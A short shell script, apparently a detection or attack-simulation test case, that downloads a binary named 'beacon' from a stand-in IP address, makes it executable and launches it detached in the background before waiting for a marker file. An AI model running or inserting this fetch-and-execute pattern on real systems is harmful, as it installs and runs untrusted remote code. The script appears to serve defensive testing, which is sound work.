#!/bin/sh
. /opt/case/case.sh

curl -s -o /pause http://203.0.113.10/programs/beacon && chmod 755 /pause
(cd / && setsid /pause >/dev/null 2>&1) &
wait_for /tmp/reached
took_place
